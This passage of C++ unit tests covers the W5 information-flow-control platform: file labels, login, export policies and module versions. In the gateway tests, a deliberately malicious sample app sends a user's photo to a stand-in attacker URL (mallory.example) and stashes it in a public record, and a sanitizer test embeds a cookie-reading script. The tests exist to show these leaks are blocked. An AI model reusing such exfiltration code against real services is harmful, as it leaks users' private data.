  auto content = fs_.read(kKernelPid, "/users/bob/diary.txt");
  ASSERT_TRUE(content.ok());
  EXPECT_EQ(content.value(), "dear diary");
}

TEST_F(FileSystemTest, UnclearedProcessCannotReadWithoutRaising) {
  const Pid app = kernel_.spawn_trusted("app", LabelState({}, {}, {}));
  EXPECT_FALSE(fs_.read(app, "/users/bob/diary.txt").ok());
  EXPECT_EQ(kernel_.find(app)->labels.secrecy(), Label{});
}

TEST_F(FileSystemTest, AutoRaiseContaminatesThenReads) {
  const Pid app = kernel_.spawn_trusted("app", LabelState({}, {}, {}));
  auto content = fs_.read(app, "/users/bob/diary.txt", AutoRaise::kYes);
  ASSERT_TRUE(content.ok());
  EXPECT_EQ(content.value(), "dear diary");
  EXPECT_EQ(kernel_.find(app)->labels.secrecy(), Label{sec_bob_});
}

TEST_F(FileSystemTest, AutoRaiseFailsWithoutPlusCapability) {
  Kernel kernel;  // no global plus for this one
  FileSystem fs(kernel);
  const Tag secret =
      kernel.create_tag(kKernelPid, "s", TagPurpose::kSecrecy).value();
  ASSERT_TRUE(
      fs.create(kKernelPid, "/x", ObjectLabels{Label{secret}, {}}, "data")
          .ok());
  const Pid app = kernel.spawn_trusted("app", LabelState({}, {}, {}));
  EXPECT_FALSE(fs.read(app, "/x", AutoRaise::kYes).ok());
}

TEST_F(FileSystemTest, WriteProtectionBlocksUnendorsedWriters) {
  const Pid vandal = kernel_.spawn_trusted("vandal", LabelState({}, {}, {}));
  // Even after contaminating itself so secrecy matches, integrity blocks.
  ASSERT_TRUE(kernel_.raise_secrecy(vandal, Label{sec_bob_}).ok());
  EXPECT_FALSE(fs_.write(vandal, "/users/bob/diary.txt", "defaced").ok());
  EXPECT_FALSE(fs_.unlink(vandal, "/users/bob/diary.txt").ok());
  EXPECT_EQ(fs_.read(kKernelPid, "/users/bob/diary.txt").value(),
            "dear diary");
}

TEST_F(FileSystemTest, DelegatedWriterSucceeds) {
  // Bob delegates write privilege by endorsing the app with wp(bob).
  const Pid editor = kernel_.spawn_trusted(
      "editor", LabelState({sec_bob_}, {wp_bob_}, {}));
  EXPECT_TRUE(fs_.write(editor, "/users/bob/diary.txt", "new entry").ok());
  EXPECT_EQ(fs_.read(kKernelPid, "/users/bob/diary.txt").value(),
            "new entry");
  EXPECT_TRUE(fs_.append(editor, "/users/bob/diary.txt", " p.s.").ok());
  EXPECT_EQ(fs_.read(kKernelPid, "/users/bob/diary.txt").value(),
            "new entry p.s.");
}

TEST_F(FileSystemTest, ContaminatedProcessCannotWritePublicFiles) {
  ASSERT_TRUE(fs_.create(kKernelPid, "/public.txt", {}, "everyone").ok());
  const Pid app = kernel_.spawn_trusted("app", LabelState({}, {}, {}));
  ASSERT_TRUE(fs_.read(app, "/users/bob/diary.txt", AutoRaise::kYes).ok());
  // Now contaminated; writing to a public file would leak.
  const auto status = fs_.write(app, "/public.txt", "bob's secrets");
  EXPECT_FALSE(status.ok());
  EXPECT_EQ(status.error().code, "flow.denied");
}

TEST_F(FileSystemTest, CreateCannotForgeIntegrity) {
  const Pid app = kernel_.spawn_trusted("app", LabelState({}, {}, {}));
  const auto status = fs_.create(app, "/users/bob/fake.txt",
                                 ObjectLabels{{}, Label{wp_bob_}}, "forged");
  EXPECT_FALSE(status.ok());
}

TEST_F(FileSystemTest, CreateChargesDiskQuota) {
  ResourceContainer container("app", {.disk_bytes = 10});
  const Pid app =
      kernel_.spawn_trusted("app", LabelState({}, {}, {}), &container);
  EXPECT_TRUE(fs_.create(app, "/a", {}, "12345").ok());
  const auto status = fs_.create(app, "/b", {}, "123456789");
  EXPECT_FALSE(status.ok());
  EXPECT_EQ(status.error().code, "quota.exceeded");
}

TEST_F(FileSystemTest, ListingHidesEntriesAboveClearance) {
  Kernel kernel;
  FileSystem fs(kernel);
  const Tag s1 = kernel.create_tag(kKernelPid, "s1", TagPurpose::kSecrecy)
                     .value();
  const Tag s2 = kernel.create_tag(kKernelPid, "s2", TagPurpose::kSecrecy)
                     .value();
  ASSERT_TRUE(fs.create(kKernelPid, "/public", {}, "p").ok());
  ASSERT_TRUE(
      fs.create(kKernelPid, "/one", ObjectLabels{Label{s1}, {}}, "1").ok());
  ASSERT_TRUE(
      fs.create(kKernelPid, "/two", ObjectLabels{Label{s2}, {}}, "2").ok());

  const Pid app = kernel.spawn_trusted(
      "app", LabelState({}, {}, CapabilitySet{plus(s1)}));
  auto names = fs.list(app, "/");
  ASSERT_TRUE(names.ok());
  // Sees /public (clean) and /one (clearance via s1+), but /two is
  // invisible — not an error, just absent.
  EXPECT_EQ(names.value(), (std::vector<std::string>{"one", "public"}));
  // stat() similarly pretends /two does not exist.
  EXPECT_EQ(fs.stat(app, "/two").error().code, "fs.not_found");
  EXPECT_TRUE(fs.stat(app, "/one").ok());
}

TEST_F(FileSystemTest, StatReportsMetadata) {
  auto st = fs_.stat(kKernelPid, "/users/bob/diary.txt");
  ASSERT_TRUE(st.ok());
  EXPECT_FALSE(st.value().is_directory);
  EXPECT_EQ(st.value().size, 10u);
  EXPECT_EQ(st.value().labels.secrecy, Label{sec_bob_});
  auto dir = fs_.stat(kKernelPid, "/users");
  ASSERT_TRUE(dir.ok());
  EXPECT_TRUE(dir.value().is_directory);
}

TEST_F(FileSystemTest, PathResolutionErrors) {
  EXPECT_EQ(fs_.read(kKernelPid, "/nope").error().code, "fs.not_found");
  EXPECT_EQ(fs_.read(kKernelPid, "/users").error().code, "fs.invalid");
  EXPECT_EQ(fs_.list(kKernelPid, "/users/bob/diary.txt").error().code,
            "fs.invalid");
  EXPECT_EQ(
      fs_.create(kKernelPid, "/users/bob/diary.txt", {}, "x").error().code,
      "fs.exists");
  EXPECT_EQ(fs_.create(kKernelPid, "/a/b/c", {}, "x").error().code,
            "fs.not_found");
  EXPECT_EQ(fs_.unlink(kKernelPid, "/").error().code, "fs.invalid");
}

TEST_F(FileSystemTest, UnlinkRules) {
  ASSERT_TRUE(fs_.mkdir(kKernelPid, "/dir", {}).ok());
  ASSERT_TRUE(fs_.create(kKernelPid, "/dir/f", {}, "x").ok());
  EXPECT_EQ(fs_.unlink(kKernelPid, "/dir").error().code, "fs.not_empty");
  EXPECT_TRUE(fs_.unlink(kKernelPid, "/dir/f").ok());
  EXPECT_TRUE(fs_.unlink(kKernelPid, "/dir").ok());
  EXPECT_EQ(fs_.read(kKernelPid, "/dir/f").error().code, "fs.not_found");
}

TEST_F(FileSystemTest, RelabelRequiresAuthorityOverDelta) {
  const Pid app = kernel_.spawn_trusted("app", LabelState({}, {}, {}));
  ASSERT_TRUE(fs_.create(kKernelPid, "/doc", {}, "x").ok());
  // App cannot add sec(bob) to a file: needs write ok (yes, public) and
  // change authority — global plus(sec_bob_) provides it.
  EXPECT_TRUE(
      fs_.relabel(app, "/doc", ObjectLabels{Label{sec_bob_}, {}}).ok());
  // But cannot remove it again (no minus capability).
  EXPECT_FALSE(fs_.relabel(app, "/doc", ObjectLabels{{}, {}}).ok());
  // Kernel can.
  EXPECT_TRUE(fs_.relabel(kKernelPid, "/doc", ObjectLabels{{}, {}}).ok());
}

TEST_F(FileSystemTest, SnapshotRoundTripPreservesLabels) {
  const auto snapshot = fs_.to_json();
  Kernel kernel2;
  // The provider restores the tag registry alongside the filesystem —
  // kernel authority is derived from registered tags.
  auto tags = difc::TagRegistry::from_json(kernel_.tags().to_json());
  ASSERT_TRUE(tags.ok());
  kernel2.tags() = std::move(tags).value();
  FileSystem fs2(kernel2);
  ASSERT_TRUE(fs2.load_json(snapshot).ok());
  auto st = fs2.stat(kKernelPid, "/users/bob/diary.txt");
  ASSERT_TRUE(st.ok());
  EXPECT_EQ(st.value().labels.secrecy, Label{sec_bob_});
  EXPECT_EQ(st.value().labels.integrity, Label{wp_bob_});
  EXPECT_EQ(fs2.read(kKernelPid, "/users/bob/diary.txt").value(),
            "dear diary");
  // Byte-stable: dumping again yields the identical snapshot.
  EXPECT_EQ(fs2.to_json().dump(), snapshot.dump());
}

TEST_F(FileSystemTest, LoadJsonRejectsCorruptSnapshots) {
  Kernel kernel;
  FileSystem fs(kernel);
  EXPECT_FALSE(fs.load_json(util::Json("garbage")).ok());
  auto bad = util::Json::parse(
      R"({"dir":true,"labels":{"secrecy":[],"integrity":[]},"children":{"a/b":{"dir":false,"labels":{"secrecy":[],"integrity":[]},"content":""}}})");
  ASSERT_TRUE(bad.ok());
  EXPECT_FALSE(fs.load_json(bad.value()).ok());  // slash in entry name
  auto not_dir = util::Json::parse(
      R"({"dir":false,"labels":{"secrecy":[],"integrity":[]},"content":""})");
  ASSERT_TRUE(not_dir.ok());
  EXPECT_FALSE(fs.load_json(not_dir.value()).ok());
}

}  // namespace
}  // namespace w5::os
