// End-to-end tests of the W5 request path: signup/login over HTTP, data
// upload, application invocation, and above all the security perimeter —
// every attack the paper worries about in §3.1 appears here as a
// must-block assertion.
#include <gtest/gtest.h>

#include "core/gateway.h"
#include "core/provider.h"

namespace w5::platform {
namespace {

using net::HttpResponse;
using net::Method;

class GatewayTest : public ::testing::Test {
 protected:
  GatewayTest() : provider_(ProviderConfig{}, clock_) {}

  void SetUp() override {
    ASSERT_TRUE(provider_.signup("bob", "bobpw").ok());
    ASSERT_TRUE(provider_.signup("alice", "alicepw").ok());
    ASSERT_TRUE(provider_.signup("charlie", "charliepw").ok());
    bob_ = provider_.login("bob", "bobpw").value();
    alice_ = provider_.login("alice", "alicepw").value();
    charlie_ = provider_.login("charlie", "charliepw").value();

    // A benign viewer app: shows a record it is asked for.
    Module viewer_app;
    viewer_app.developer = "devA";
    viewer_app.name = "view";
    viewer_app.version = "1.0";
    viewer_app.manifest.description = "render a record";
    viewer_app.handler = [](AppContext& ctx) {
      auto record = ctx.get_record(ctx.query_param("c", "photos"),
                                   ctx.query_param("id"));
      if (!record.ok()) return HttpResponse::text(404, "no record\n");
      return HttpResponse::text(200, record.value().data.dump());
    };
    ASSERT_TRUE(provider_.modules().add(viewer_app).ok());

    // A malicious app: reads the target record, then tries several
    // exfiltration channels; whatever it returns, it returns.
    Module evil;
    evil.developer = "mallory";
    evil.name = "steal";
    evil.version = "1.0";
    evil.handler = [this](AppContext& ctx) {
      auto record = ctx.get_record("photos", ctx.query_param("id", "bob1"));
      std::string loot = record.ok() ? record.value().data.dump() : "nothing";
      // Channel 1: ship it to mallory's server.
      auto fetched = ctx.fetch_external("http://mallory.example/?loot=" + loot);
      exfil_attempted_ = true;
      exfil_succeeded_ = fetched.ok();
      // Channel 2: stash it in a public record for later pickup.
      store::Record drop;
      drop.collection = "public-drop";
      drop.id = "loot";
      drop.owner = "mallory";
      drop.data = util::Json(loot);
      stash_succeeded_ = ctx.put_record(drop).ok();
      // Channel 3: return it in the response body (perimeter's problem).
      return HttpResponse::text(200, loot);
    };
    ASSERT_TRUE(provider_.modules().add(evil).ok());

    // Bob uploads a photo through the front door.
    const auto upload = provider_.http(Method::kPost, "/data/photos/bob1",
                                       R"({"title":"bob's secret photo"})",
                                       bob_);
    ASSERT_EQ(upload.status, 201) << upload.body;
  }

  util::SimClock clock_;
  Provider provider_;
  std::string bob_, alice_, charlie_;
  bool exfil_attempted_ = false;
  bool exfil_succeeded_ = false;
  bool stash_succeeded_ = false;
};

TEST_F(GatewayTest, SignupLoginWhoamiFlow) {
  const auto anon = provider_.http(Method::kGet, "/whoami");
  EXPECT_EQ(anon.status, 200);
  EXPECT_EQ(anon.body, R"({"user":null})");

  const auto me = provider_.http(Method::kGet, "/whoami", "", bob_);
  EXPECT_EQ(me.body, R"({"user":"bob"})");

  const auto bad = provider_.http(Method::kPost, "/login",
                                  "user=bob&password=wrong");
  EXPECT_EQ(bad.status, 401);

  const auto login = provider_.http(Method::kPost, "/login",
                                    "user=bob&password=bobpw");
  EXPECT_EQ(login.status, 200);
  EXPECT_TRUE(login.headers.get("Set-Cookie").value_or("").starts_with(
      "w5session="));

  const auto dup = provider_.http(Method::kPost, "/signup",
                                  "user=bob&password=x");
  EXPECT_EQ(dup.status, 400);
}

TEST_F(GatewayTest, LogoutEndsSession) {
  ASSERT_EQ(provider_.http(Method::kGet, "/whoami", "", bob_).body,
            R"({"user":"bob"})");
  ASSERT_EQ(provider_.http(Method::kPost, "/logout", "", bob_).status, 200);
  EXPECT_EQ(provider_.http(Method::kGet, "/whoami", "", bob_).body,
            R"({"user":null})");
}

TEST_F(GatewayTest, OwnerReadsOwnDataViaApp) {
  const auto response =
      provider_.http(Method::kGet, "/dev/devA/view?c=photos&id=bob1", "", bob_);
  EXPECT_EQ(response.status, 200) << response.body;
  EXPECT_NE(response.body.find("bob's secret photo"), std::string::npos);
}

TEST_F(GatewayTest, BoilerplatePolicyBlocksOtherViewers) {
  // Alice invokes the same benign app on bob's data: the app *can* read
  // it (it contaminates itself), but the perimeter blocks the response.
  const auto response = provider_.http(
      Method::kGet, "/dev/devA/view?c=photos&id=bob1", "", alice_);
  EXPECT_EQ(response.status, 403);
  EXPECT_EQ(response.body.find("secret"), std::string::npos);
  EXPECT_GE(provider_.audit().count(AuditKind::kExportBlocked), 1u);
}

TEST_F(GatewayTest, AnonymousViewerAlsoBlocked) {
  const auto response =
      provider_.http(Method::kGet, "/dev/devA/view?c=photos&id=bob1");
  EXPECT_EQ(response.status, 403);
}

TEST_F(GatewayTest, MaliciousAppAllChannelsBlocked) {
  const auto response =
      provider_.http(Method::kGet, "/dev/mallory/steal?id=bob1", "", charlie_);
  // Channel 3 (response body): blocked by perimeter.
  EXPECT_EQ(response.status, 403);
  EXPECT_EQ(response.body.find("secret"), std::string::npos);
  // Channel 1 (external fetch): attempted and denied.
  EXPECT_TRUE(exfil_attempted_);
  EXPECT_FALSE(exfil_succeeded_);
  // Channel 2 (public stash): flow-denied by the store.
  EXPECT_FALSE(stash_succeeded_);
  EXPECT_EQ(provider_.store()
                .get(os::kKernelPid, "public-drop", "loot")
                .error().code,
            "store.not_found");
}

TEST_F(GatewayTest, MaliciousAppServingOwnerStillWorks) {
  // Crucial W5 property: bob may use *any* app, even mallory's, on his
  // own data — the backstop is the perimeter, not app vetting.
  const auto response =
      provider_.http(Method::kGet, "/dev/mallory/steal?id=bob1", "", bob_);
  EXPECT_EQ(response.status, 200);
  EXPECT_NE(response.body.find("secret photo"), std::string::npos);
  // The side channels were still blocked even for bob's request.
  EXPECT_FALSE(exfil_succeeded_);
  EXPECT_FALSE(stash_succeeded_);
}

TEST_F(GatewayTest, FriendListDeclassifierSharesWithFriendsOnly) {
  // Bob switches his policy to the friend-list declassifier and uploads
  // his friend list (alice yes, charlie no).
  ASSERT_EQ(provider_.http(Method::kPost, "/data/friends/bob",
                           R"({"friends":["alice"]})", bob_).status,
            201);
  ASSERT_EQ(provider_.http(Method::kPost, "/policy",
                           R"({"declassifier":"std/friends"})", bob_).status,
            200);

  EXPECT_EQ(provider_.http(Method::kGet, "/dev/devA/view?c=photos&id=bob1",
                           "", alice_).status,
            200);
  EXPECT_EQ(provider_.http(Method::kGet, "/dev/devA/view?c=photos&id=bob1",
                           "", charlie_).status,
            403);
  EXPECT_EQ(provider_.http(Method::kGet, "/dev/devA/view?c=photos&id=bob1",
                           "", bob_).status,
            200);
}

TEST_F(GatewayTest, PolicyEndpointValidation) {
  EXPECT_EQ(provider_.http(Method::kGet, "/policy").status, 401);
  EXPECT_EQ(provider_.http(Method::kPost, "/policy", "not json", bob_).status,
            400);
  EXPECT_EQ(provider_.http(Method::kPost, "/policy",
                           R"({"declassifier":"no/such"})", bob_).status,
            400);
  const auto get = provider_.http(Method::kGet, "/policy", "", bob_);
  EXPECT_EQ(get.status, 200);
  EXPECT_NE(get.body.find("owner-only"), std::string::npos);
}

TEST_F(GatewayTest, DataEndpointRules) {
  EXPECT_EQ(provider_.http(Method::kPost, "/data/photos/x", "{}").status, 401);
  EXPECT_EQ(provider_.http(Method::kPost, "/data/photos/x", "not json", bob_)
                .status,
            400);
  // GET /data passes the perimeter: owner yes, stranger no.
  EXPECT_EQ(provider_.http(Method::kGet, "/data/photos/bob1", "", bob_).status,
            200);
  EXPECT_EQ(
      provider_.http(Method::kGet, "/data/photos/bob1", "", alice_).status,
      403);
  EXPECT_EQ(provider_.http(Method::kGet, "/data/photos/nope", "", bob_).status,
            404);
  // Delete: only the owner (write-protected).
  EXPECT_EQ(
      provider_.http(Method::kDelete, "/data/photos/bob1", "", alice_).status,
      403);
  EXPECT_EQ(
      provider_.http(Method::kDelete, "/data/photos/bob1", "", bob_).status,
      200);
}

TEST_F(GatewayTest, WriteGrantGatesAppWrites) {
  // An editor app that rewrites the title of bob's photo.
  Module editor;
  editor.developer = "devB";
  editor.name = "edit";
  editor.version = "1.0";
  editor.handler = [](AppContext& ctx) {
    auto record = ctx.get_record("photos", ctx.query_param("id"));
    if (!record.ok()) return HttpResponse::text(404, "no record");
    record.value().data["title"] = "edited";
    auto written = ctx.put_record(record.value());
    return written.ok() ? HttpResponse::text(200, "saved")
                        : HttpResponse::text(403, written.error().code);
  };
  ASSERT_TRUE(provider_.modules().add(editor).ok());

  // Re-upload bob1 (earlier tests may have deleted it in other fixtures).
  ASSERT_EQ(provider_.http(Method::kPost, "/data/photos/bob2",
                           R"({"title":"original"})", bob_).status,
            201);

  // Without a write grant the app cannot save.
  auto blocked = provider_.http(Method::kGet, "/dev/devB/edit?id=bob2", "",
                                bob_);
  EXPECT_EQ(blocked.status, 403) << blocked.body;

  // Bob grants devB/edit write privilege; now it can.
  ASSERT_EQ(provider_.http(Method::kPost, "/policy",
                           R"({"write_grants":["devB/edit"]})", bob_).status,
            200);
  auto allowed =
      provider_.http(Method::kGet, "/dev/devB/edit?id=bob2", "", bob_);
  EXPECT_EQ(allowed.status, 200) << allowed.body;
  EXPECT_EQ(provider_.store().get(os::kKernelPid, "photos", "bob2").value()
                .data.at("title").as_string(),
            "edited");
}

TEST_F(GatewayTest, ReadProtectionHidesPrivateCollections) {
  // Bob marks "diary" as private; records there carry rp(bob).
  ASSERT_EQ(provider_.http(Method::kPost, "/policy",
                           R"({"private_collections":["diary"]})", bob_)
                .status,
            200);
  ASSERT_EQ(provider_.http(Method::kPost, "/data/diary/d1",
                           R"({"entry":"deep secret"})", bob_).status,
            201);

  // The viewer app cannot even see the record without a read grant —
  // rp(bob)+ is not global.
  const auto hidden = provider_.http(
      Method::kGet, "/dev/devA/view?c=diary&id=d1", "", bob_);
  EXPECT_EQ(hidden.status, 404) << hidden.body;

  // Bob grants devA/view read access; the record becomes visible and
  // exports to bob (rp is always owner-only at the perimeter).
  ASSERT_EQ(provider_.http(Method::kPost, "/policy",
                           R"({"private_collections":["diary"],
                               "read_grants":["devA/view"]})",
                           bob_).status,
            200);
  const auto shown = provider_.http(
      Method::kGet, "/dev/devA/view?c=diary&id=d1", "", bob_);
  EXPECT_EQ(shown.status, 200) << shown.body;
  EXPECT_NE(shown.body.find("deep secret"), std::string::npos);

  // Even with a policy that exports sec(bob) publicly, rp blocks alice.
  ASSERT_EQ(provider_.http(Method::kPost, "/policy",
                           R"({"declassifier":"std/public",
                               "private_collections":["diary"],
                               "read_grants":["devA/view"]})",
                           bob_).status,
            200);
  // Read grants attach to requests *by the granting user*; a request on
  // alice's behalf carries no rp(bob)+ at all, so the record is simply
  // invisible to the app — blocked even earlier than the perimeter.
  const auto blocked = provider_.http(
      Method::kGet, "/dev/devA/view?c=diary&id=d1", "", alice_);
  EXPECT_EQ(blocked.status, 404) << blocked.body;
  EXPECT_EQ(blocked.body.find("deep secret"), std::string::npos);
}

TEST_F(GatewayTest, VersionSelectionExplicitPinnedLatest) {
  Module v1;
  v1.developer = "devC";
  v1.name = "tool";
  v1.version = "1.0";
  v1.handler = [](AppContext&) { return HttpResponse::text(200, "v1"); };
  Module v2 = v1;
  v2.version = "2.0";
  v2.handler = [](AppContext&) { return HttpResponse::text(200, "v2"); };
  ASSERT_TRUE(provider_.modules().add(v1).ok());
  ASSERT_TRUE(provider_.modules().add(v2).ok());

  EXPECT_EQ(provider_.http(Method::kGet, "/dev/devC/tool", "", bob_).body,
            "v2");  // latest
  EXPECT_EQ(provider_.http(Method::kGet, "/dev/devC/tool?version=1.0", "",
                           bob_).body,
            "v1");  // explicit
  ASSERT_EQ(provider_.http(Method::kPost, "/policy",
                           R"({"version_pins":{"devC/tool":"1.0"}})", bob_)
                .status,
            200);
  EXPECT_EQ(provider_.http(Method::kGet, "/dev/devC/tool", "", bob_).body,
            "v1");  // pinned
  EXPECT_EQ(provider_.http(Method::kGet, "/dev/devC/tool", "", alice_).body,
            "v2");  // other users unaffected
}

TEST_F(GatewayTest, UnknownAppAndMalformedRoutes) {
  EXPECT_EQ(provider_.http(Method::kGet, "/dev/nobody/nothing").status, 404);
  EXPECT_EQ(provider_.http(Method::kGet, "/no/such/route").status, 404);
  EXPECT_EQ(provider_.http(Method::kPut, "/signup").status, 405);
}

TEST_F(GatewayTest, AppExceptionYieldsScrubbed500) {
  Module crasher;
  crasher.developer = "devD";
  crasher.name = "crash";
  crasher.version = "1.0";
  crasher.handler = [](AppContext& ctx) -> HttpResponse {
    // Read a secret, then crash: the diagnostic must not leak the secret.
    (void)ctx.get_record("photos", "bob1");
    throw std::runtime_error("crash with bob's secret photo inside");
  };
  ASSERT_TRUE(provider_.modules().add(crasher).ok());
  const auto response =
      provider_.http(Method::kGet, "/dev/devD/crash", "", alice_);
  EXPECT_EQ(response.status, 500);
  EXPECT_EQ(response.body.find("secret"), std::string::npos);
  // Audit recorded the failure without the message (type name only).
  const auto events = provider_.audit().for_actor("devD/crash@1.0");
  ASSERT_FALSE(events.empty());
  for (const auto& event : events)
    EXPECT_EQ(event.detail.find("secret"), std::string::npos);
}

TEST_F(GatewayTest, QuotaExhaustionYields503NotPartialData) {
  ProviderConfig config;
  config.request_limits.cpu_ticks = 5;  // tiny per-request budget
  util::SimClock clock;
  Provider provider(config, clock);
  ASSERT_TRUE(provider.signup("bob", "pwd").ok());
  const std::string session = provider.login("bob", "pwd").value();

  Module hog;
  hog.developer = "devE";
  hog.name = "hog";
  hog.version = "1.0";
  hog.handler = [](AppContext& ctx) {
    for (int i = 0; i < 1000; ++i) {
      if (!ctx.charge(os::Resource::kCpu, 1).ok())
        return HttpResponse::text(200, "partial secret data");
    }
    return HttpResponse::text(200, "done");
  };
  ASSERT_TRUE(provider.modules().add(hog).ok());
  const auto response = provider.http(Method::kGet, "/dev/devE/hog", "",
                                      session);
  EXPECT_EQ(response.status, 503);
  EXPECT_EQ(response.body.find("partial"), std::string::npos);
  EXPECT_GE(provider.audit().count(AuditKind::kQuotaKill), 1u);
}

TEST_F(GatewayTest, SanitizerStripsAppScripts) {
  Module scripted;
  scripted.developer = "devF";
  scripted.name = "scripted";
  scripted.version = "1.0";
  scripted.handler = [](AppContext&) {
    return HttpResponse::html(
        200, "<p>ok</p><script>document.cookie</script>");
  };
  ASSERT_TRUE(provider_.modules().add(scripted).ok());
  const auto response =
      provider_.http(Method::kGet, "/dev/devF/scripted", "", bob_);
  EXPECT_EQ(response.status, 200);
  EXPECT_EQ(response.body, "<p>ok</p>");
}

TEST_F(GatewayTest, StatsAndAppsEndpoints) {
  const auto stats = provider_.http(Method::kGet, "/stats");
  EXPECT_EQ(stats.status, 200);
  EXPECT_NE(stats.body.find("\"users\":3"), std::string::npos);
  const auto apps = provider_.http(Method::kGet, "/apps");
  EXPECT_EQ(apps.status, 200);
  EXPECT_NE(apps.body.find("devA/view@1.0"), std::string::npos);
}

TEST_F(GatewayTest, CleanAppUntouchedByPerimeter) {
  Module hello;
  hello.developer = "devG";
  hello.name = "hello";
  hello.version = "1.0";
  hello.handler = [](AppContext& ctx) {
    return HttpResponse::text(200, "hello " + ctx.viewer());
  };
  ASSERT_TRUE(provider_.modules().add(hello).ok());
  // No user data touched → empty label → export needs no declassifier,
  // works for anyone including anonymous.
  EXPECT_EQ(provider_.http(Method::kGet, "/dev/devG/hello").body, "hello ");
  EXPECT_EQ(provider_.http(Method::kGet, "/dev/devG/hello", "", bob_).body,
            "hello bob");
}

TEST_F(GatewayTest, MultiOwnerResponseNeedsAllDeclassifiers) {
  // Alice uploads a photo; an app mixes bob's and alice's data.
  ASSERT_EQ(provider_.http(Method::kPost, "/data/photos/alice1",
                           R"({"title":"alice's photo"})", alice_).status,
            201);
  Module mixer;
  mixer.developer = "devH";
  mixer.name = "mix";
  mixer.version = "1.0";
  mixer.handler = [](AppContext& ctx) {
    auto a = ctx.get_record("photos", "bob1");
    auto b = ctx.get_record("photos", "alice1");
    return HttpResponse::text(
        200, (a.ok() ? a.value().data.dump() : "") +
                 (b.ok() ? b.value().data.dump() : ""));
  };
  ASSERT_TRUE(provider_.modules().add(mixer).ok());

  // Bob sees only with both owners' approval; owner-only(alice) denies.
  EXPECT_EQ(provider_.http(Method::kGet, "/dev/devH/mix", "", bob_).status,
            403);
  // Alice makes her photos public: now bob's request carries approvals
  // for both tags (owner-only(bob) approves bob; public(alice) approves).
  ASSERT_EQ(provider_.http(Method::kPost, "/policy",
                           R"({"declassifier":"std/public"})", alice_).status,
            200);
  EXPECT_EQ(provider_.http(Method::kGet, "/dev/devH/mix", "", bob_).status,
            200);
  // Charlie still blocked: owner-only(bob) denies charlie.
  EXPECT_EQ(provider_.http(Method::kGet, "/dev/devH/mix", "", charlie_).status,
            403);
}

}  // namespace
}  // namespace w5::platform
