#include <gtest/gtest.h>

#include "core/declassifier.h"
#include "core/module_registry.h"
#include "core/sanitizer.h"

namespace w5::platform {
namespace {

ExportRequest request_for(std::string viewer, std::string owner,
                          std::size_t owners = 1) {
  ExportRequest request;
  request.viewer = std::move(viewer);
  request.data_owner = std::move(owner);
  request.tag = difc::Tag(1);
  request.module_id = "devA/app@1.0";
  request.destination = "browser";
  request.byte_count = 100;
  request.distinct_owner_count = owners;
  return request;
}

TEST(DeclassifierTest, OwnerOnlyBoilerplatePolicy) {
  auto declassifier = make_owner_only();
  EXPECT_TRUE(declassifier->decide(request_for("bob", "bob")).ok());
  EXPECT_FALSE(declassifier->decide(request_for("amy", "bob")).ok());
  EXPECT_FALSE(declassifier->decide(request_for("", "bob")).ok());
  EXPECT_EQ(declassifier->decide(request_for("amy", "bob")).error().code,
            "declassify.denied");
}

TEST(DeclassifierTest, FriendListConsultsLookup) {
  auto declassifier = make_friend_list(
      [](const std::string& owner, const std::string& viewer) {
        return owner == "bob" && viewer == "alice";
      });
  EXPECT_TRUE(declassifier->decide(request_for("bob", "bob")).ok());    // owner
  EXPECT_TRUE(declassifier->decide(request_for("alice", "bob")).ok());  // friend
  EXPECT_FALSE(declassifier->decide(request_for("charlie", "bob")).ok());
  EXPECT_FALSE(declassifier->decide(request_for("", "bob")).ok());
}

TEST(DeclassifierTest, GroupMembership) {
  auto declassifier = make_group(
      "roommates", [](const std::string& group, const std::string& viewer) {
        return group == "roommates" && (viewer == "amy" || viewer == "dan");
      });
  EXPECT_TRUE(declassifier->decide(request_for("amy", "bob")).ok());
  EXPECT_TRUE(declassifier->decide(request_for("dan", "bob")).ok());
  EXPECT_FALSE(declassifier->decide(request_for("eve", "bob")).ok());
  EXPECT_TRUE(declassifier->decide(request_for("bob", "bob")).ok());
}

TEST(DeclassifierTest, PublicAllowsEveryone) {
  auto declassifier = make_public();
  EXPECT_TRUE(declassifier->decide(request_for("", "bob")).ok());
  EXPECT_TRUE(declassifier->decide(request_for("stranger", "bob")).ok());
}

TEST(DeclassifierTest, RateLimitBoundsExportsPerViewerPerWindow) {
  util::SimClock clock;
  auto declassifier =
      make_rate_limited(make_public(), clock, /*max_exports=*/3,
                        /*window_micros=*/1000);
  for (int i = 0; i < 3; ++i)
    EXPECT_TRUE(declassifier->decide(request_for("scraper", "bob")).ok());
  const auto denied = declassifier->decide(request_for("scraper", "bob"));
  ASSERT_FALSE(denied.ok());
  EXPECT_EQ(denied.error().code, "declassify.rate_limited");
  // Another viewer has an independent budget.
  EXPECT_TRUE(declassifier->decide(request_for("other", "bob")).ok());
  // The window slides.
  clock.advance(1001);
  EXPECT_TRUE(declassifier->decide(request_for("scraper", "bob")).ok());
}

TEST(DeclassifierTest, RateLimitStillAppliesInnerPolicy) {
  util::SimClock clock;
  auto declassifier =
      make_rate_limited(make_owner_only(), clock, 100, 1000);
  EXPECT_FALSE(declassifier->decide(request_for("amy", "bob")).ok());
  EXPECT_TRUE(declassifier->decide(request_for("bob", "bob")).ok());
}

TEST(DeclassifierTest, KAggregateRequiresEnoughOwners) {
  auto declassifier = make_k_aggregate(3);
  EXPECT_FALSE(declassifier->decide(request_for("amy", "bob", 1)).ok());
  EXPECT_FALSE(declassifier->decide(request_for("amy", "bob", 2)).ok());
  EXPECT_TRUE(declassifier->decide(request_for("amy", "bob", 3)).ok());
  EXPECT_TRUE(declassifier->decide(request_for("amy", "bob", 10)).ok());
  // The owner always reaches their own data.
  EXPECT_TRUE(declassifier->decide(request_for("bob", "bob", 1)).ok());
}

TEST(DeclassifierRegistryTest, AddFindList) {
  DeclassifierRegistry registry;
  registry.add("std/owner-only", make_owner_only());
  registry.add("std/public", make_public());
  ASSERT_NE(registry.find("std/owner-only"), nullptr);
  EXPECT_EQ(registry.find("std/owner-only")->name(), "owner-only");
  EXPECT_EQ(registry.find("missing"), nullptr);
  EXPECT_EQ(registry.ids(),
            (std::vector<std::string>{"std/owner-only", "std/public"}));
}

TEST(ModuleRegistryTest, AddResolveVersions) {
  ModuleRegistry registry;
  const auto handler = [](AppContext&) { return net::HttpResponse(); };
  Module module;
  module.developer = "devA";
  module.name = "crop";
  module.version = "1.0";
  module.handler = handler;
  ASSERT_TRUE(registry.add(module).ok());
  module.version = "2.0";
  ASSERT_TRUE(registry.add(module).ok());
  EXPECT_EQ(registry.add(module).error().code, "module.exists");

  EXPECT_EQ(registry.resolve("devA", "crop")->version, "2.0");  // latest
